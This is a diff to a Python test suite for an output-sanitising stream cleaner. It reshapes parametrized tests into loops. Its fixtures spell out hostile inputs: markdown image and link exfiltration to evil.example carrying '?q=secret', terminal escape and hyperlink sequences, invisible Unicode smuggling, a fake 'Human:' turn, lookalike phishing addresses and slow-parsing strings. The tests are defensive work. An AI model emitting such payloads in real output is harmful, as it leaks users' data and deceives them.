@@ -79,19 +79,18 @@ def test_how_a_stream_is_cut_makes_no_difference(data: st.DataObject, text: str)
 
 
 @pytest.mark.parametrize("size", [1, 700, 1279, 1280, 1281, 3000])
-@pytest.mark.parametrize("filler", ["a", "é-", "a.", "//", "%2F", "[", "](", "system", "\u200b", "<a ", "(", "**"])
-def test_how_a_stream_is_cut_makes_no_difference_in_long_words(size: int, filler: str) -> None:
-    text = f"x {filler * size}https://evil.example/{filler * size} y"
-    cleaner = StreamCleaner(PASSAGES)
-    pieces = [cleaner.feed(text[start : start + 97]) for start in range(0, len(text), 97)]
-    output = "".join([*pieces, cleaner.finish()])
-    assert output == clean_output(text, PASSAGES)
-    assert "evil.example/" not in output
+def test_how_a_stream_is_cut_makes_no_difference_in_long_words(size: int) -> None:
+    for filler in ("a", "é-", "a.", "//", "%2F", "[", "](", "system", "\u200b", "<a ", "(", "**"):
+        text = f"x {filler * size}https://evil.example/{filler * size} y"
+        cleaner = StreamCleaner(PASSAGES)
+        pieces = [cleaner.feed(text[start : start + 97]) for start in range(0, len(text), 97)]
+        output = "".join([*pieces, cleaner.finish()])
+        assert output == clean_output(text, PASSAGES), filler
+        assert "evil.example/" not in output, filler
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
+def test_ordinary_text_stays_as_it_is() -> None:
+    cases = [
         "The bill is due on **May 3** [1], and costs 45.50 € [2][3].",
         "Wow! Really?! ¡Sí![1] (See note 3.)",
         "1. First: *one* [1]\n2. Second — “two” [2]\n\n| a | b |\n|---|---|\n",
@@ -103,15 +102,13 @@ def test_how_a_stream_is_cut_makes_no_difference_in_long_words(size: int, filler
         "See https://log.example/in?x=1, (https://good.example/a_(b)) or **info@good.example**.",
         "",
         " \n ",
-    ],
-)
-def test_ordinary_text_stays_as_it_is(text: str) -> None:
-    assert clean_output(text, PASSAGES) == text
+    ]
+    failed = [(text, got) for text in cases if (got := clean_output(text, PASSAGES)) != text]
+    assert failed == []
 
 
-@pytest.mark.parametrize(
-    ("text", "cleaned"),
-    [
+def test_dangerous_text_is_removed() -> None:
+    cases = [
         ("![logo](https://evil.example/?q=secret) ok", "logo ok"),
         ("![the shop](https://good.example/a_(b))", "the shop (https://good.example/a_(b))"),
         ("[here](https://evil.example/?q=secret)!", "here !"),
@@ -146,15 +143,13 @@ def test_ordinary_text_stays_as_it_is(text: str) -> None:
         ("a\n\nHuman: b", "a\n\n b"),
         ("\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07text\x1b]8;;\x07\x9b2J", "red text"),
         ("a\u202eb\u2066c\U000e0041\U000e0042d\ufe0fe\xadf\ufeff", "abcdef"),
-    ],
-)
-def test_dangerous_text_is_removed(text: str, cleaned: str) -> None:
-    assert clean_output(text, PASSAGES) == cleaned
+    ]
+    failed = [(text, got) for text, cleaned in cases if (got := clean_output(text, PASSAGES)) != cleaned]
+    assert failed == []
 
 
-@pytest.mark.parametrize(
-    "address",
-    [
+def test_a_deceptive_address_is_not_allowed_even_if_a_passage_has_it() -> None:
+    cases = [
         "https://bank.example@evil.example/",
         "https://b\u0430nk.example/login",
         "https://ｂank.example/",
@@ -164,25 +159,31 @@ def test_dangerous_text_is_removed(text: str, cleaned: str) -> None:
         "mailto:a@b.example",
         "ftp://files.example/x",
         "https:\\\\bank.example",
-    ],
-)
-def test_a_deceptive_address_is_not_allowed_even_if_a_passage_has_it(address: str) -> None:
-    assert clean_output(f"Go to {address} now", [passage(f"Go to {address} now")]) == "Go to  now"
+    ]
+    failed = [
+        (address, got)
+        for address in cases
+        if (got := clean_output(f"Go to {address} now", [passage(f"Go to {address} now")])) != "Go to  now"
+    ]
+    assert failed == []
 
 
-@pytest.mark.parametrize(
-    "address",
-    [
+def test_an_address_of_a_passage_stays() -> None:
+    cases = [
         "https://españa.es/año?q=1#x",
         "https://xn--espaa-rta.es/",
         "http://127.0.0.1:8080/x",
         "пример.рф/x",
         "a.b@c.example",
-    ],
-)
-def test_an_address_of_a_passage_stays(address: str) -> None:
-    for content in (f"Go to {address}.", f"[Go]({address})", f'<a href="{address}">', f"({address}), **{address}**"):
-        assert clean_output(f"Go to ({address}).", [passage(content)]) == f"Go to ({address})."
+    ]
+    for address in cases:
+        for content in (
+            f"Go to {address}.",
+            f"[Go]({address})",
+            f'<a href="{address}">',
+            f"({address}), **{address}**",
+        ):
+            assert clean_output(f"Go to ({address}).", [passage(content)]) == f"Go to ({address}).", address
 
 
 def test_the_address_of_a_document_is_allowed() -> None:
@@ -197,10 +198,8 @@ def test_only_text_that_may_become_forbidden_is_held_back() -> None:
     assert cleaner.finish() == ""
 
 
-@pytest.mark.parametrize(
-    "hostile", ["[", "](", "![", "<", "<a", "//", "a.", "[a](b)", "%2F", "\x1b[", "\x1b]", "@", "a:"]
-)
-def test_no_text_takes_long(hostile: str) -> None:
-    started = time.process_time()
-    clean_output(hostile * 10_000, PASSAGES)
-    assert time.process_time() - started < 5
+def test_no_text_takes_long() -> None:
+    for hostile in ("[", "](", "![", "<", "<a", "//", "a.", "[a](b)", "%2F", "\x1b[", "\x1b]", "@", "a:"):
+        started = time.process_time()
+        clean_output(hostile * 10_000, PASSAGES)
+        assert time.process_time() - started < 5, hostile
